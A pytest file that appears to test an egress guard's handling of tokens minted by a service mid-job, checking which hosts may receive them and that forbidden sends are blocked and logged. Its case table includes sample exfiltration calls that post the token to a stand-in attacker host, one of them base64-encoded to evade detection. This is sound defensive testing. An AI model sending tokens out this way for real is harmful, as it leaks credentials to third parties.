"""Tokens that a service mints while the job runs: known before the client has them, and where they may go."""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import textwrap

import pytest

from tests.attacks.programs import PYTHON
from tests.world import World, servers
from tests.world.internet import API, MIRROR

ALLOWED = ["--allow", "*.example.com", "--allow", "files.example.net", "--on-exfiltration", "fail"]
APIS = (API, "2001:db8::10", MIRROR, "203.0.113.12")

CLIENT = textwrap.dedent(
    """
    import http.client, json, sys, base64, gzip
    def ask(host, method="GET", path="/", body=None, headers={}):
        connection = http.client.HTTPSConnection(host, timeout=20)
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        data = answer.read()
        return answer.status, gzip.decompress(data) if answer.getheader("content-encoding") == "gzip" else data
    token = json.loads(ask("api.example.com", path="/mint")[1])["token"]
    """
)
SENDING = {
    "home, header": ('ask("api.example.com", headers={"Authorization": "Bearer " + token})', 200),
    "home, body": ('ask("api.example.com", "POST", body="token=" + token)', 200),
    "home, query": ('ask("api.example.com", path="/upload?token=" + token)', 200),
    "beside it, header": ('ask("mirror.example.com", headers={"Authorization": "Bearer " + token})', 200),
    "beside it, basic": (
        'ask("mirror.example.com", headers={"Authorization": "Basic " + base64.b64encode(("x:" + token).encode()).decode()})',
        200,
    ),
    "beside it, body": ('ask("mirror.example.com", "POST", body=token)', 403),
    "elsewhere, header, at first": ('ask("files.example.net", headers={"Authorization": "Bearer " + token})', 200),
    "elsewhere, body": ('ask("files.example.net", "POST", body=token)', 403),
    "elsewhere, in base64": ('ask("files.example.net", "POST", body=base64.b64encode(b"x" + token.encode()))', 403),
    "denied, header": ('ask("attacker.example.org", headers={"Authorization": "Bearer " + token})', 403),
}


@pytest.fixture
def answers():
    yield servers.ANSWERS
    servers.ANSWERS.clear()


@pytest.mark.parametrize("name", SENDING)
@pytest.mark.parametrize("coding", ["", "gzip"])
def test_where_a_minted_token_may_go(world: World, answers, name: str, coding: str) -> None:
    token = "mint_" + secrets.token_hex(24)
    body = json.dumps({"success": True, "token": token}).encode()
    extra = {"Content-Encoding": "gzip"} if coding else {}
    answers["/mint"] = (gzip.compress(body) if coding else body, {"Content-Type": "application/json", **extra})
    call, status = SENDING[name]
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", f"{CLIENT}\nprint({call}[0])"])
    assert outcome.stdout.split() == [str(status)], outcome.stderr
    assert outcome.code == (0 if status == 200 else 91)
    if status == 403:
        assert {one["secret"] for one in outcome.incidents if one["kind"] == "exfiltration"} == {
            "minted by api.example.com (token)"
        }
        assert token.encode() not in world.received(*APIS)
    assert token.encode() not in outcome.everything_written()


def test_an_id_token_is_exchanged_once(world: World, answers) -> None:
    parts = [
        base64.urlsafe_b64encode(json.dumps(one).encode()).decode().rstrip("=") for one in ({"alg": "RS256"}, {"aud": "somebody"})
    ]
    token = ".".join([*parts, secrets.token_urlsafe(64)])
    answers["/mint"] = (json.dumps({"count": 1, "value": token}).encode(), {"Content-Type": "application/json; charset=utf-8"})
    program = CLIENT.replace('["token"]', '["value"]') + textwrap.dedent(
        """
        print(ask("files.example.net", "POST", "/exchange", json.dumps({"jwt": token}))[0])
        print(ask("files.example.net", "POST", "/exchange", json.dumps({"jwt": token}))[0])
        print(ask("mirror.example.com", "POST", "/exchange", json.dumps({"jwt": token}))[0])
        """
    )  # fmt: skip
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program])
    assert outcome.stdout.split() == ["200", "200", "403"], outcome.stderr


def test_responses_are_not_held_back(world: World, answers) -> None:
    """A document that never ends reaches its client as it comes."""
    answers["/mint"] = (b'{"token": "' + b"x" * 200_000 + b'"}', {"Content-Type": "application/json"})
    outcome = world.guard.run(ALLOWED, ["curl", "-sS", "https://api.example.com/mint"])
    assert (outcome.code, len(outcome.stdout)) == (0, 200_013), outcome.stderr
